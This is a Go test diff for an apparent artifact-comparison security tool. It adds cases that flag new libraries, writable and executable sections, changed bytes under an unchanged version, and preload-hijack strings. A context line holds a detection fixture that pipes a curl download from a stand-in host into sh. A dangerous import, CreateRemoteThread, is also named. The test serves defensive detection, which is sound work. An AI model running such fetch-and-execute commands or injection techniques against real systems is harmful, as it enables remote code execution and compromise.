@@ -115,6 +115,9 @@ func TestProfileDeltas(t *testing.T) {
 		"script":              {result.Profile{}, result.Profile{Observations: []string{"pipe-to-shell: curl -s https://x.example/i | sh"}}, result.High, "pipe-to-shell"},
 		"dangerous import":    {result.Profile{Imports: []string{"kernel32.dll!CreateFileW"}}, result.Profile{Imports: []string{"kernel32.dll!CreateFileW", "kernel32.dll!CreateRemoteThread"}}, result.Medium, "CreateRemoteThread"},
 		"nothing":             {result.Profile{Imports: []string{"a"}}, result.Profile{Imports: []string{"a"}}, result.Low, "code changed"},
+		"library":             {result.Profile{Libraries: []string{"libc.so.6"}}, result.Profile{Libraries: []string{"libc.so.6", "libcurl.so.4"}}, result.Medium, "new library: libcurl.so.4"},
+		"executable section":  {result.Profile{Sections: []result.SectionProfile{{Name: ".text", Perm: "r-x"}}}, result.Profile{Sections: []result.SectionProfile{{Name: ".text", Perm: "r-x"}, {Name: ".hook", Perm: "rwx", Size: 64}}}, result.Medium, "new executable section .hook"},
+		"string of interest":  {result.Profile{}, result.Profile{Interesting: []string{"/etc/ld.so.preload"}}, result.Medium, `new strings of interest: "/etc/ld.so.preload"`},
 	} {
 		old := &result.Result{Artifacts: []result.Artifact{file("x", "sha256:1", "elf", &tc.old)}}
 		new := &result.Result{Artifacts: []result.Artifact{file("x", "sha256:2", "elf", &tc.new)}}
@@ -260,5 +263,19 @@ func TestSimilarityPairing(t *testing.T) {
 		if c.Path == "sbin/agent-daemon" && (c.OldPath != "bin/agentd" || !strings.Contains(c.Summary, "bin/agentd was renamed to sbin/agent-daemon and changed")) {
 			t.Errorf("renamed and changed: %+v", c)
 		}
+	}
+}
+
+// A file whose name carries a version that did not change, with other bytes, is the
+// "same name and version, different bytes" case.
+func TestSameVersionOtherBytes(t *testing.T) {
+	old := &result.Result{Artifacts: []result.Artifact{file("pkgs/libfoo_1.2.3_amd64.deb", "sha256:1", "deb", nil), file("README", "sha256:r", "text", nil)}}
+	new := &result.Result{Artifacts: []result.Artifact{file("pkgs/libfoo_1.2.3_amd64.deb", "sha256:2", "deb", nil), file("README", "sha256:r2", "text", nil)}}
+	r := Compare(old, new, Options{})
+	if c := r.Changes[0]; c.Path != "pkgs/libfoo_1.2.3_amd64.deb" || c.Level != result.Medium || !strings.Contains(strings.Join(c.Details, ""), "same name and version, different bytes") {
+		t.Errorf("first change %+v", c)
+	}
+	if c := r.Changes[1]; c.Path != "README" || c.Level != result.Info {
+		t.Errorf("second change %+v", c)
 	}
 }
